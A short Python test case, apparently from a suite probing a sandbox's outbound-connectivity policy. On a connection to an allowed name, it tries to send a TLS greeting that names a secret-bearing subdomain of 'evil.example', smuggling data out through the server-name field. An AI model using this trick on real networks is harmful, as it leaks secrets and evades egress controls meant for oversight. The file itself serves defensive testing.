# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: on a connection to an allowed name, the TLS greeting names another server at the same
#   address
# proof: word
# needs: resolver
from attack import SECRET, at_allowed, attempt, greeting


@attempt
def greet():
    return at_allowed(lambda out: out.send(greeting(SECRET + ".evil.example")))
